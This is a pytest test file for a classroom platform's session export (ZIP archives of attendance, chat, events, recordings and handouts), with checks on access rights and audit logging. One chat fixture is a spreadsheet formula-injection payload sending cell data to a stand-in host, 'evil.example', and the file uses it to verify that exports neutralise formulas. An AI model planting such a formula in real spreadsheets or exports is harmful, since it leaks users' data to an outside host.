"""A session exported as one ZIP (GET /sessions/{id}/export and `liveclass records export`), checked
against the store: yesterday's 10A1 Toán period with a real recording (tests/archive_seed.py)."""

from __future__ import annotations

import asyncio
import csv
import fcntl
import hashlib
import io
import json
import os
import pty
import struct
import subprocess
import sys
import termios
import zipfile
from pathlib import Path
from urllib.parse import quote

import openpyxl
import pytest
from sqlalchemy import delete, func, select

from liveclass.archive.tables import END_REASONS, STATUS_LABELS
from liveclass.models import AuditEntry, ChatMessage, Handout, LiveSession, Recording, SessionEvent
from liveclass.records import RecordsWriter
from signaling import events as ev
from signaling.events import RoomEvent
from tests.archive_seed import school_time, seed_archived_session
from tests.helpers import eventually
from tests.test_cli import assert_clean_failure, liveclass

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")'
MENTION = "@Ánh bạn gửi bài chưa?"
PRIVATE = "Thưa cô, em xin phép ra ngoài"


async def _more_chat(server, archived) -> None:
    """Bảo's messages: one a spreadsheet formula, one starting with @, one private to the teacher."""
    at = lambda hh, mm: school_time(archived.day, hh, mm).timestamp()  # noqa: E731
    late, teacher = archived.late.id, archived.teacher.id
    writer = RecordsWriter(server.db)
    for event in (
        RoomEvent(
            archived.session_id,
            ev.CHAT_MESSAGE,
            late,
            None,
            {"message_id": f"{archived.session_id}-m4", "text": HYPERLINK, "kind": "text"},
            at(8, 17),
        ),
        RoomEvent(
            archived.session_id,
            ev.CHAT_MESSAGE,
            late,
            None,
            {"message_id": f"{archived.session_id}-m5", "text": MENTION, "kind": "text"},
            at(8, 18),
        ),
        RoomEvent(
            archived.session_id,
            ev.CHAT_MESSAGE,
            late,
            teacher,
            {"message_id": f"{archived.session_id}-m6", "text": PRIVATE, "kind": "text"},
            at(8, 19),
        ),
    ):
        writer.emit(event)
    await writer.flush()


async def _export(person, session_id: int, expect: int = 200):
    response = await person.request("GET", f"/sessions/{session_id}/export")
    body = await response.read()
    assert response.status == expect, body[:500]
    return response, body


def _csv(archive: zipfile.ZipFile, name: str) -> tuple[bytes, list[dict]]:
    raw = archive.read(name)
    return raw, list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _xlsx_rows(data: bytes) -> list[list]:
    """The cells' values of an XLSX file's first sheet; a formula would come back as "=…" with type f."""
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


WORKSHEET = b"%PDF-1.4\n% Phieu bai tap so 3\n"


async def _handout(server, archived) -> None:
    """The worksheet the teacher handed out, stored as an upload is (liveclass/handouts.py)."""
    folder = server.settings.handouts_dir / str(archived.session_id)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "a1b2c3.pdf").write_bytes(WORKSHEET)
    async with server.db() as db:
        db.add(
            Handout(
                session_id=archived.session_id,
                uploaded_by_id=archived.teacher.id,
                filename="Phiếu bài tập.pdf",
                content_type="application/pdf",
                size=len(WORKSHEET),
                sha256=hashlib.sha256(WORKSHEET).hexdigest(),
                stored_name="a1b2c3.pdf",
            )
        )
        await db.commit()


@pytest.fixture
async def archived(server, school, lesson):
    archived = await seed_archived_session(server, school, lesson)
    await _more_chat(server, archived)
    await _handout(server, archived)
    return archived


async def test_export_is_the_session_as_stored(server, school, archived):
    teacher = await server.logged_in(school.teacher)
    response, body = await _export(teacher, archived.session_id)

    # Streamed: chunked, no length announced; a download with an ASCII name and the real one (RFC 5987).
    assert response.headers["Content-Type"] == "application/zip"
    assert "Content-Length" not in response.headers
    assert response.headers.get("Transfer-Encoding") == "chunked"
    name = f"liveclass-10A1-Toan-{archived.day.isoformat()}-session-{archived.session_id}.zip"
    real = name.replace("Toan", "Toán")
    assert response.headers["Content-Disposition"] == (
        f"attachment; filename=\"{name}\"; filename*=UTF-8''{quote(real, safe='')}"
    )
    assert response.headers["Cache-Control"] == "no-store"

    archive = zipfile.ZipFile(io.BytesIO(body))
    assert archive.testzip() is None
    names = archive.namelist()
    assert names[:6] == ["manifest.json", "attendance.csv", "attendance.xlsx", "chat.csv", "polls.xlsx", "events.jsonl"]

    async with server.db() as db:
        rows = (
            (
                await db.execute(
                    select(Recording)
                    .where(Recording.session_id == archived.session_id)
                    .order_by(Recording.start_ms, Recording.id)
                )
            )
            .scalars()
            .all()
        )
        event_rows = (
            await db.execute(
                select(func.count()).select_from(SessionEvent).where(SessionEvent.session_id == archived.session_id)
            )
        ).scalar_one()
        audits = (await db.execute(select(AuditEntry).where(AuditEntry.action == "session_exported"))).scalars().all()
    assert len(rows) == len(archived.recording_files) >= 3

    # Every recorded file: stored (not deflated), the bytes on disk, the checksum the store has.
    manifest = json.loads(archive.read("manifest.json"))
    listed = {f["path"]: f for r in manifest["recordings"] for f in r["files"]}
    for row in rows:
        member = f"recordings/{Path(row.path).parent.name}/{Path(row.path).name}"
        data = archive.read(member)
        assert archive.getinfo(member).compress_type == zipfile.ZIP_STORED
        assert hashlib.sha256(data).hexdigest() == row.sha256
        assert data == (server.settings.recordings_dir / row.path).read_bytes()
        entry = listed[member]
        assert (entry["sha256"], entry["start_ms"], entry["duration_ms"], entry["size"]) == (
            row.sha256,
            row.start_ms,
            row.duration_ms,
            len(data),
        )
    recording_dir = Path(rows[0].path).parent.name
    assert f"recordings/{recording_dir}/manifest.json" in names
    assert manifest["recordings"][0]["finished"] is True
    handout = [n for n in names if n.startswith("handouts/")]
    assert len(handout) == 1 and handout[0].endswith("-Phiếu bài tập.pdf") and archive.read(handout[0]) == WORKSHEET
    assert [(h["filename"], h["path"]) for h in manifest["handouts"]] == [("Phiếu bài tập.pdf", handout[0])]
    assert set(names) == (
        {
            "manifest.json",
            "attendance.csv",
            "attendance.xlsx",
            "chat.csv",
            "polls.xlsx",
            "events.jsonl",
            f"recordings/{recording_dir}/manifest.json",
        }
        | set(listed)
        | set(handout)
    )

    # The manifest names the session, its period, class and teacher.
    assert manifest["format"] == "liveclass-session-export"
    assert manifest["session"]["session_id"] == archived.session_id and manifest["session"]["running"] is False
    assert manifest["class"]["name"] == "10A1" and manifest["period"]["subject"] == "Toán"
    assert manifest["teacher"]["name"] == "Nguyễn Thị Hà" and manifest["purged"] == {}
    assert manifest["exported_by"]["user_id"] == school.teacher.id
    assert manifest["counts"]["events"] == event_rows

    # attendance.csv: the API's attendance, line for line.
    raw, lines = _csv(archive, "attendance.csv")
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    api = await teacher.json("GET", f"/sessions/{archived.session_id}/attendance")
    assert len(lines) == len(api["items"]) == 5
    for line, item in zip(lines, api["items"]):
        assert line["Họ và tên / Name"] == item["name"]
        assert line["Mã định danh / Personal ID"] == item["personal_id"]
        assert line["Trạng thái / Status"] == STATUS_LABELS[item["status"]]
        for column, key in [
            ("Số phút có mặt / Minutes present", "minutes_present"),
            ("Số phút đi muộn / Minutes late", "minutes_late"),
            ("Phút bật camera / Camera minutes", "camera_minutes"),
            ("Phút bật micro / Microphone minutes", "microphone_minutes"),
            ("Phút chia sẻ màn hình / Screen minutes", "screen_minutes"),
            ("Số lần giơ tay / Hands raised", "hands_raised"),
            ("Số tin nhắn / Messages", "messages"),
        ]:
            assert float(line[column]) == item[key], (column, line, item)
    by_name = {line["Họ và tên / Name"]: line for line in lines}
    day = archived.day.isoformat()
    anh = by_name["Phạm Ngọc Ánh"]
    assert anh["Vào lớp lúc / Arrived at"] == f"{day} 08:00:30"  # school-local time
    assert anh["Các lần có mặt / Presence intervals"] == (
        f"08:01:10–08:20:00 ({END_REASONS['dropped']}); 08:21:00–08:40:00 ({END_REASONS['left']})"
    )
    assert by_name["Trần Gia Bảo"]["Trạng thái / Status"] == "Đi muộn / Late"
    assert by_name["Lê Thị Chi"]["Trạng thái / Status"] == "Vắng / Absent"
    assert by_name["Lê Thị Chi"]["Vào lớp lúc / Arrived at"] == ""
    assert by_name["Trần Gia Bảo"]["Người cho vào / Admitted by"] == "Nguyễn Thị Hà"
    assert by_name["Vũ Văn Dũng"]["Trạng thái / Status"] == "Bị từ chối / Denied"  # knocked, refused
    assert by_name["Vũ Văn Dũng"]["Người từ chối / Denied by"] == "Nguyễn Thị Hà"
    assert by_name["Vũ Văn Dũng"]["Lý do từ chối / Reason denied"] == "Không thuộc lớp này"

    # attendance.xlsx: the same table for Excel, the personal IDs as text with their leading zeros.
    header, *sheet_rows = _xlsx_rows(archive.read("attendance.xlsx"))
    assert header == list(lines[0].keys())
    assert len(sheet_rows) == len(lines)
    for row, line in zip(sheet_rows, lines):  # numbers are numbers in the sheet, text in the CSV
        assert [
            float(text) if isinstance(value, (int, float)) else text for value, text in zip(row, line.values())
        ] == [value if value is not None else "" for value in row]
    assert all(isinstance(row[2], str) and row[2].startswith("0012") and len(row[2]) == 12 for row in sheet_rows)
    assert all(isinstance(row[7], (int, float)) for row in sheet_rows)  # minutes are numbers

    # events.jsonl: every SessionEvent, in order, Vietnamese as written.
    raw_events = archive.read("events.jsonl")
    events = [json.loads(line) for line in raw_events.decode("utf-8").splitlines()]
    assert len(events) == event_rows
    assert [e["at"] for e in events] == sorted(e["at"] for e in events)
    assert "Bài 3 em chưa hiểu".encode() in raw_events
    saved = next(e for e in events if e["type"] == ev.RECORDING_SAVED)
    assert {f["sha256"] for f in saved["data"]["manifest"]["files"]} == {r.sha256 for r in rows}
    assert next(e for e in events if e["type"] == ev.HAND_RAISED)["actor"]["name"] == "Phạm Ngọc Ánh"

    # Written to the audit log, with the address, before the download began.
    assert [(a.actor_id, a.target, a.address) for a in audits] == [
        (school.teacher.id, f"session:{archived.session_id}", "127.0.0.1")
    ]


async def test_chat_csv_opens_in_excel_with_vietnamese_names_and_no_formulas(server, school, archived):
    admin = await server.logged_in(school.admin)
    _, body = await _export(admin, archived.session_id)
    raw, rows = _csv(zipfile.ZipFile(io.BytesIO(body)), "chat.csv")
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
    assert raw.count(b"\r\n") == len(rows) + 1 and b"\n" not in raw.replace(b"\r\n", b"")
    by_text = {r["Nội dung / Text"]: r for r in rows}
    assert len(rows) == 6

    deleted = by_text[archived.chat_texts[0]]
    assert deleted["Người gửi / From"] == "Phạm Ngọc Ánh"
    assert deleted["Đã xoá lúc / Deleted at"] == f"{archived.day.isoformat()} 08:16:00"
    assert deleted["Người xoá / Deleted by"] == "Nguyễn Thị Hà"
    assert by_text[archived.chat_texts[1]]["Đã xoá lúc / Deleted at"] == ""
    assert by_text[archived.chat_texts[2]]["Thời gian / Time"] == f"{archived.day.isoformat()} 08:15:00"

    # Formulas and @-mentions are shown as text, never run.
    assert "'" + HYPERLINK in by_text and HYPERLINK not in by_text
    assert "'" + MENTION in by_text
    private = by_text[PRIVATE]
    assert private["Người gửi / From"] == "Trần Gia Bảo" and private["Gửi riêng cho / To (private)"] == "Nguyễn Thị Hà"
    assert by_text["'" + HYPERLINK]["Gửi riêng cho / To (private)"] == ""


async def test_export_only_for_the_sessions_teacher_and_admins(server, school, archived):
    other = await server.logged_in(school.other_teacher)
    _, body = await _export(other, archived.session_id, expect=404)
    assert json.loads(body)["error"]["code"] == "not_found"
    for user in (school.student, school.parent, school.observer):
        person = await server.logged_in(user)
        _, body = await _export(person, archived.session_id, expect=403)
        assert json.loads(body)["error"]["code"] == "forbidden"
    _, body = await _export(server.person(None), archived.session_id, expect=401)
    admin = await server.logged_in(school.admin)
    await _export(admin, 999_999, expect=404)
    await _export(admin, archived.session_id, expect=200)
    async with server.db() as db:
        audits = await db.execute(select(AuditEntry.actor_id).where(AuditEntry.action == "session_exported"))
        assert list(audits.scalars()) == [school.admin.id]  # refusals export nothing and log no export


async def test_export_of_a_purged_session_says_what_retention_deleted(server, school):
    archived = await seed_archived_session(server, school)  # no recording
    async with server.db() as db:
        await db.execute(delete(ChatMessage).where(ChatMessage.session_id == archived.session_id))
        session = await db.get(LiveSession, archived.session_id)
        session.purged = {"chat": "2027-11-23T02:00:00Z"}
        await db.commit()
    teacher = await server.logged_in(school.teacher)
    _, body = await _export(teacher, archived.session_id)
    archive = zipfile.ZipFile(io.BytesIO(body))
    manifest = json.loads(archive.read("manifest.json"))
    assert manifest["purged"] == {"chat": "2027-11-23T02:00:00Z"}
    assert manifest["recordings"] == [] and not any(n.startswith("recordings/") for n in archive.namelist())
    raw, rows = _csv(archive, "chat.csv")
    assert rows == [] and raw.decode("utf-8-sig").startswith("Thời gian / Time,")


async def test_large_recordings_use_zip64(server, school, archived, monkeypatch):
    """zipfile switches to ZIP64 past ZIP64_LIMIT (2 GiB): with the limit lowered, the small real files
    take the same path as a 5 GB one, and the archive still reads back whole."""
    teacher = await server.logged_in(school.teacher)
    monkeypatch.setattr(zipfile, "ZIP64_LIMIT", 4096)
    _, body = await _export(teacher, archived.session_id)
    monkeypatch.undo()
    archive = zipfile.ZipFile(io.BytesIO(body))
    assert archive.testzip() is None
    webm = [i for i in archive.infolist() if i.filename.endswith(".webm")]
    assert webm and all(i.file_size > 4096 for i in webm)
    for info in webm:
        assert info.extra[:2] == b"\x01\x00"  # the ZIP64 extended information field
    assert len(archive.read("events.jsonl").splitlines()) > 20


async def test_recording_download_is_an_attachment_and_audited_as_such(server, school, archived):
    teacher = await server.logged_in(school.teacher)
    async with server.db() as db:
        recording = (
            (
                await db.execute(
                    select(Recording).where(Recording.session_id == archived.session_id).order_by(Recording.id)
                )
            )
            .scalars()
            .first()
        )
    url = f"/sessions/{archived.session_id}/recordings/{recording.id}/file"
    played = await teacher.request("GET", url)
    assert played.status == 200 and "Content-Disposition" not in played.headers
    downloaded = await teacher.request("GET", url + "?download=1")
    assert downloaded.status == 200
    assert downloaded.headers["Content-Disposition"] == (
        f'attachment; filename="liveclass-session-{archived.session_id}-{Path(recording.path).name}"'
    )
    assert hashlib.sha256(await downloaded.read()).hexdigest() == recording.sha256
    async with server.db() as db:
        actions = (
            (
                await db.execute(
                    select(AuditEntry.action)
                    .where(AuditEntry.target == f"recording:{recording.id}")
                    .order_by(AuditEntry.id)
                )
            )
            .scalars()
            .all()
        )
    assert actions == ["recording_viewed", "recording_downloaded"]


# -- the CLI ----------------------------------------------------------------------------------------------
def _on_a_terminal(*args: str, data_dir: Path, cwd: Path) -> tuple[int, str, str]:
    """Run `liveclass ARGS` with stderr on a pseudo-terminal (where the progress bar shows)."""
    clean = {k: v for k, v in os.environ.items() if not k.startswith("LIVECLASS_")}
    master, slave = pty.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 100, 0, 0))  # a terminal 100 columns wide
    process = subprocess.Popen(
        [sys.executable, "-m", "liveclass.cli", *args, "--data-dir", str(data_dir)],
        stdout=subprocess.PIPE,
        stderr=slave,
        stdin=subprocess.DEVNULL,
        env=clean,
        cwd=cwd,
    )
    os.close(slave)
    terminal = bytearray()
    while True:
        try:
            data = os.read(master, 4096)
        except OSError:  # EIO: the child closed the terminal
            break
        if not data:
            break
        terminal += data
    os.close(master)
    stdout = process.stdout.read().decode()
    process.wait(timeout=120)
    return process.returncode, stdout, terminal.decode(errors="replace")


async def test_cli_export_writes_the_zip_with_a_progress_bar(server, school, archived, tmp_path):
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    code, stdout, terminal = await asyncio.to_thread(
        _on_a_terminal, "records", "export", str(archived.session_id), data_dir=server.settings.data_dir, cwd=out_dir
    )
    assert code == 0, (stdout, terminal)
    assert "Traceback" not in terminal and "Export" in terminal and "100%" in terminal
    written = out_dir / f"liveclass-10A1-Toan-{archived.day.isoformat()}-session-{archived.session_id}.zip"
    assert str(written.name) in stdout
    assert (written.stat().st_mode & 0o777) == 0o600  # personal data: readable by its owner only
    archive = zipfile.ZipFile(written)
    assert archive.testzip() is None
    async with server.db() as db:
        rows = (await db.execute(select(Recording).where(Recording.session_id == archived.session_id))).scalars().all()
        audits = (await db.execute(select(AuditEntry).where(AuditEntry.action == "session_exported"))).scalars().all()
    for row in rows:
        data = archive.read(f"recordings/{Path(row.path).parent.name}/{Path(row.path).name}")
        assert hashlib.sha256(data).hexdigest() == row.sha256
    assert json.loads(archive.read("manifest.json"))["exported_by"] is None
    assert [(a.actor_id, a.target, a.details) for a in audits] == [
        (None, f"session:{archived.session_id}", {"via": "cli"})
    ]

    # --out names the file; an existing one is never overwritten.
    out = tmp_path / "ban-sao.zip"
    result = await asyncio.to_thread(
        liveclass, "records", "export", str(archived.session_id), "--out", str(out), data_dir=server.settings.data_dir
    )
    assert result.returncode == 0, result.stderr
    assert result.stderr == ""  # no progress bar when not on a terminal
    assert zipfile.ZipFile(out).namelist() == archive.namelist()
    again = await asyncio.to_thread(
        liveclass, "records", "export", str(archived.session_id), "--out", str(out), data_dir=server.settings.data_dir
    )
    assert_clean_failure(again, "already exists")


async def test_cli_export_of_an_unknown_session(server, school, tmp_path):
    result = await asyncio.to_thread(
        liveclass, "records", "export", "424242", data_dir=server.settings.data_dir, cwd=tmp_path
    )
    assert_clean_failure(result, "no session 424242")
    assert list(tmp_path.glob("*.zip")) == []
    async with server.db() as db:
        assert (
            await db.execute(
                select(func.count()).select_from(AuditEntry).where(AuditEntry.action == "session_exported")
            )
        ).scalar_one() == 0


async def test_a_client_that_goes_away_mid_download_leaves_nothing_open(server, school, archived, caplog):
    """The export stops when the client does: its file is closed, nothing is logged as a failure."""
    async with server.db() as db:
        recording = (
            (
                await db.execute(
                    select(Recording).where(Recording.session_id == archived.session_id).order_by(Recording.id)
                )
            )
            .scalars()
            .first()
        )
    big = server.settings.recordings_dir / recording.path
    with open(big, "ab") as file:  # 64 MB: more than the sockets buffer between server and client
        file.truncate(64 << 20)
    teacher = await server.logged_in(school.teacher)
    async with teacher.http.get(server.api(f"/sessions/{archived.session_id}/export")) as response:
        assert response.status == 200
        assert len(await response.content.readexactly(1 << 16)) == 1 << 16
        response.close()  # hang up

    def open_files() -> set[str]:
        return {os.path.realpath(f"/proc/self/fd/{fd}") for fd in os.listdir("/proc/self/fd")}

    await eventually(lambda: str(big.resolve()) not in open_files(), 5, "the server to close the recording")
    assert str(big.resolve()) not in open_files()
    assert "failed while streaming" not in caplog.text
    _, body = await _export(teacher, archived.session_id)  # and the next export is whole
    assert zipfile.ZipFile(io.BytesIO(body)).getinfo(f"recordings/{big.parent.name}/{big.name}").file_size == 64 << 20


async def test_events_are_read_in_pages_on_each_store(any_store_server):
    """Keyset paging over (at, id): events at the same instant are neither lost nor repeated."""
    from liveclass.archive.export import _event_pages
    from tests.helpers import seed_school

    server = any_store_server
    archived = await seed_archived_session(server, await seed_school(server))
    async with server.db() as db:
        expected = (
            (
                await db.execute(
                    select(SessionEvent.id)
                    .where(SessionEvent.session_id == archived.session_id)
                    .order_by(SessionEvent.at, SessionEvent.id)
                )
            )
            .scalars()
            .all()
        )
    pages = [page async for page in _event_pages(server.db, archived.session_id, page=3)]
    lines = [json.loads(line) for page in pages for line in page.decode().splitlines()]
    assert len(pages) == -(-len(expected) // 3)
    assert [e["event_id"] for e in lines] == expected
